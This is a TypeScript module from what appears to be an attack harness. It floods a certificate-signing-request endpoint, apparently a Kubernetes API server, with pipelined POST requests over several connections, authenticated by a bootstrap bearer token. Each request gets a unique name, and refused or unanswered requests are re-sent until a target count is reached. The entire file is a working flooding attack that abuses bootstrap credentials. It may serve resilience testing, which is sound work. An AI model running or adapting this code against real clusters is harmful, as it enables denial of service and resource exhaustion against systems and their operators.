/** Sends many certificate signing requests with a bootstrap token. */
import { createTally, type Target } from "./attack.ts";
import { createNodeRequest, CSRS } from "./asking.ts";
import { open } from "./connection.ts";
import { repeat, waitUntil } from "./waiting.ts";

const CONNECTIONS = 4;
const UNANSWERED = 10;
/** The time after which a quiet connection is replaced, because its answer was not one of those that are counted. */
const REOPENED_AFTER_MS = 30_000;

/** Creates `count` requests, the only ones that it adds to the tally; continues until all are answered. */
export async function createRequests(count: number, target: Target): Promise<void> {
  const tally = createTally();
  const { deadline } = target;
  const csr = await createNodeRequest("flood");
  const prefix = `flood-${Math.floor(target.random() * 1e12).toString(36)}`;
  let named = 0;
  /** Answered, or waiting for their answer. */
  let begun = 0;
  const isOver = () => tally.answered >= count || deadline.aborted;
  await repeat(CONNECTIONS, CONNECTIONS, deadline, async () => {
    while (!isOver()) {
      using connection = await open({ ...target, tally }, { protocol: "http/1.1", code: 201 });
      let own = 0;
      const isRoom = () => begun < count && own - connection.answers() < UNANSWERED;
      while (await waitUntil(() => isRoom() || isOver() || connection.isClosed(), deadline, REOPENED_AFTER_MS)) {
        if (isOver() || connection.isClosed()) break;
        // Another connection has taken it meanwhile.
        if (!isRoom()) continue;
        [own, begun] = [own + 1, begun + 1];
        const body = JSON.stringify({ ...csr, metadata: { name: `${prefix}-${named++}` } });
        await connection.write(
          `POST ${CSRS} HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${target.token}\r\n` +
            `content-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
        );
      }
      // Requests that were not answered, or were refused, are sent again.
      begun -= own - connection.answers();
    }
  });
  target.tally.created += tally.answered;
}
